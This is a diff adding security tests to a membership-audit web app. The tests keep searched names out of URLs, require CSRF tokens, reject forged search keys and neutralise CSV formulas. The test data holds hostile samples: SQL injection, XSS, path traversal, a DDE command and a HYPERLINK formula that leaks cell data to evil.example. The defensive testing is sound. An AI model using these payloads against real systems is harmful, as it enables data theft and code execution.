@@ -6,6 +6,7 @@ the sympathiser list, the other opened two months later).
 import csv
 import io
 from datetime import timedelta
+from urllib.parse import parse_qsl, quote, quote_plus
 
 import pytest
 from sqlalchemy import select, update
@@ -16,7 +17,7 @@ from webapp.pages.formatting import VIETNAM
 from webapp.services.clock import resolve_now
 
 from ..conftest import START
-from .helpers import html, texts
+from .helpers import alerts, db_state, html, redirect_path, texts
 
 
 def _found(response):
@@ -28,6 +29,24 @@ def _found(response):
 
 def _unit_id(code):
     return db.session.query(OrgUnit.id).filter_by(code=code).scalar()
+
+
+def _no_name_in(address, name):
+    """Neither the name nor any way a browser would encode it is in the address."""
+    for form in (name, quote(name), quote_plus(name), quote(name.encode("utf-8")), name.lower()):
+        assert form not in address, f"{name!r} travels in {address!r}"
+
+
+def _search(browser, query):
+    """The search as its form sends it: POSTed, then the address it redirects to (no name in it)."""
+    fields = dict(parse_qsl(query, keep_blank_values=True))
+    response = browser.post("/audit/cases", fields, token_from="/audit/cases")
+    assert response.status_code == 303, response.status_code
+    address = redirect_path(response)
+    if fields.get("q", "").strip():
+        _no_name_in(address, fields["q"].strip())
+        assert "s=" in address
+    return browser.get(address)
 
 
 @pytest.fixture()
@@ -74,8 +93,7 @@ ALL = {"Lê Thị Hằng", "Phạm Văn Khoa", "Trần Minh Khôi", "Nguyễn Th
 ])
 def test_each_filter_narrows_the_province_auditors_search(as_user, cases, query, expected):
     auditor = as_user("tq.auditor")
-    url = "/audit/cases?" + query.replace("{TQ-CH}", str(_unit_id("TQ-CH")))
-    assert _found(auditor.get(url)) == (expected, len(expected))
+    assert _found(_search(auditor, query.replace("{TQ-CH}", str(_unit_id("TQ-CH"))))) == (expected, len(expected))
 
 
 def test_a_district_searches_only_below_it(as_user, cases):
@@ -111,7 +129,8 @@ def test_the_search_pages_through_more_than_25_cases_newest_first(as_user, start
     first_names = texts(first, "//table[@data-testid='search-results']/tbody/tr[@data-case]/td[1]")
     assert first_names[:2] == ["Học sinh 26", "Học sinh 25"] and len(first_names) == 25
     assert _found(second) == ({"Học sinh 01", "Học sinh 00"}, 27)
-    assert _found(auditor.get("/audit/cases?page=3&q=học sinh")) == (set(), 27)
+    searched = _search(auditor, "q=học sinh")
+    assert _found(auditor.get(searched.request.full_path.rstrip("?") + "&page=3")) == (set(), 27)
 
 
 def _csv(response):
@@ -130,7 +149,9 @@ def test_the_csv_holds_the_same_cases_as_the_search(as_user, cases):
     assert rows[0][2].endswith("333") and "001207" not in rows[0][2]  # identity numbers masked
     assert rows[1][3] == "Nữ" and rows[1][8] == "06/03/2026"
 
-    _header, *named = _csv(auditor.get("/audit/cases.csv?q=thị h&status=official"))
+    export = html(_search(auditor, "q=thị h&status=official")).xpath("//a[@data-testid='export-csv']/@href")[0]
+    _no_name_in(export, "thị h")
+    _header, *named = _csv(auditor.get(export))
     assert [row[1] for row in named] == ["Lê Thị Hằng"]
     assert named[0][5] == "Đảng viên chính thức" and named[0][7] == "Đảng viên chính thức"  # status, outcome
     _header, *overdue = _csv(auditor.get("/audit/cases.csv?overdue=1"))
@@ -151,3 +172,122 @@ def test_each_export_is_recorded_with_its_filters_and_rows(as_user, cases):
 def test_a_district_exports_only_its_own_cases(as_user, cases):
     _header, *rows = _csv(as_user("tq-ch.standing_committee").get("/audit/cases.csv"))
     assert {row[1] for row in rows} == {"Trần Minh Khôi", "Nguyễn Thị Hồng"}
+
+
+# --- personal data out of addresses (issue 9) -------------------------------------------------------------
+
+def _addresses(response):
+    """Every address the page would make the browser ask for: links, form targets, sources."""
+    return html(response).xpath("//a/@href | //form/@action | //script/@src | //link/@href | //img/@src")
+
+
+def test_a_name_searched_for_never_travels_in_an_address(as_user, cases):
+    auditor = as_user("tq.auditor")
+    before = db_state()
+    response = auditor.post("/audit/cases", {"q": "Lê Thị Hằng", "status": "official", "unit": ""},
+                            token_from="/audit/cases")
+    address = redirect_path(response)
+    assert response.status_code == 303 and address.startswith("/audit/cases?")
+    assert dict(parse_qsl(address.split("?", 1)[1])).keys() == {"status", "s"}
+    _no_name_in(address, "Lê Thị Hằng")
+
+    page = auditor.get(address)
+    assert _found(page) == ({"Lê Thị Hằng"}, 1)
+    assert html(page).xpath("//input[@name='q']/@value") == ["Lê Thị Hằng"]  # shown in the page, not the address
+    for link in _addresses(page):
+        _no_name_in(link, "Lê Thị Hằng")
+    export = html(page).xpath("//a[@data-testid='export-csv']/@href")[0]
+    assert "s=" in export
+    _header, *rows = _csv(auditor.get(export))
+    assert [row[1] for row in rows] == ["Lê Thị Hằng"]
+    assert db_state()["events"] == before["events"] + 1  # the export, and nothing else, was recorded
+
+
+def test_the_same_search_keeps_its_key_and_old_searches_are_forgotten(as_user, cases):
+    auditor = as_user("tq.auditor")
+
+    def key_of(name):
+        response = auditor.post("/audit/cases", {"q": name}, token_from="/audit/cases")
+        return dict(parse_qsl(redirect_path(response).split("?", 1)[1]))["s"]
+
+    first = key_of("Hằng")
+    assert key_of("Hằng") == first
+    for name in ("Khoa", "Khôi", "Hồng", "Thị", "Văn"):  # five newer searches
+        key_of(name)
+    page = auditor.get(f"/audit/cases?s={first}")
+    assert "Không còn nhớ tên cần tìm (đã đăng xuất hoặc tìm đã lâu): hãy nhập lại." in alerts(page)
+
+
+def test_an_old_link_with_a_name_is_moved_out_of_the_address(as_user, cases):
+    auditor = as_user("tq.auditor")
+    response = auditor.get("/audit/cases?q=th%E1%BB%8B%20h&status=official&page=1")
+    address = redirect_path(response)
+    assert response.status_code == 303 and "q=" not in address and "s=" in address
+    _no_name_in(address, "thị h")
+    assert _found(auditor.get(address)) == ({"Lê Thị Hằng"}, 1)
+    exported = auditor.get("/audit/cases.csv?q=Khôi")
+    assert exported.status_code == 303 and "q=" not in redirect_path(exported)
+    _header, *rows = _csv(auditor.get(redirect_path(exported)))
+    assert [row[1] for row in rows] == ["Trần Minh Khôi"]
+
+
+def test_a_key_means_nothing_in_another_session(app, as_user, cases):
+    auditor = as_user("tq.auditor")
+    address = redirect_path(auditor.post("/audit/cases", {"q": "Khôi"}, token_from="/audit/cases"))
+    other = as_user("tq.org_board")
+    page = other.get(address)
+    assert "Không còn nhớ tên cần tìm (đã đăng xuất hoặc tìm đã lâu): hãy nhập lại." in alerts(page)
+    assert html(page).xpath("//input[@name='q']/@value") == [""]
+    # The CSV would otherwise be every case in scope: it is refused, nothing is exported or recorded.
+    before = db_state()
+    key = dict(parse_qsl(address.split("?", 1)[1]))["s"]
+    refused = other.get(f"/audit/cases.csv?s={key}&status=in_progress")
+    assert refused.status_code == 303 and redirect_path(refused) == "/audit/cases?status=in_progress"
+    assert refused.mimetype != "text/csv" and db_state() == before
+    assert "Không còn nhớ tên cần tìm" in " ".join(alerts(other.get(redirect_path(refused))))
+
+
+@pytest.mark.parametrize("key", ["", "x" * 5000, "../../etc", "%00", "'; DROP TABLE student; --"])
+def test_a_made_up_key_is_answered_not_a_500(as_user, cases, key):
+    page = as_user("tq.auditor").get("/audit/cases", query_string={"s": key})
+    assert page.status_code == 200
+    assert _found(page) == (ALL, 4)
+
+
+def test_the_search_form_needs_its_csrf_token(app, as_user, cases):
+    auditor = as_user("tq.auditor")
+    before = db_state()
+    response = auditor._open("post", "/audit/cases", data={"q": "Hằng"})
+    assert response.status_code == 400 and db_state() == before
+
+
+@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "Hằng" * 2000, "\x00\x1b[31m", "%' OR 1=1 --"])
+def test_hostile_search_text_is_searched_for_as_text(as_user, cases, text):
+    page = _search(as_user("tq.auditor"), "q=" + quote(text))
+    assert page.status_code == 200 and _found(page) == (set(), 0)
+    assert "<script>alert(1)</script>" not in page.get_data(as_text=True)
+
+
+# --- CSV cells that a spreadsheet would run (issue 9) -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_the_csv_never_hands_a_spreadsheet_a_formula(as_user, start_case, world):
+    for number, name in enumerate(FORMULAS):
+        start_case("TQ-LN-THPT", full_name=name, citizen_id=f"00120700{number:04d}")
+    start_case("TQ-LN-THPT", full_name="Lê Thị Hằng", citizen_id="001307000111")
+    auditor = as_user("tq.auditor")
+    _header, *rows = _csv(auditor.get("/audit/cases.csv"))
+    names = [row[1] for row in rows]
+    stored = {name.strip() for name in FORMULAS}  # what registration kept of each name
+    assert len(names) == len(FORMULAS) + 1
+    for cell in names[:-1]:
+        assert cell.startswith("'") and cell[1:].strip() in stored, cell
+        assert cell[1:2] in "=+-@\t\r"
+    assert names[-1] == "Lê Thị Hằng"  # Vietnamese text as it is, no apostrophe where none is needed
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    # The search page shows the names as typed: only the spreadsheet copy is marked.
+    shown, _total = _found(auditor.get("/audit/cases"))
+    assert "Lê Thị Hằng" in shown and any(name.startswith("=HYPERLINK") for name in shown)
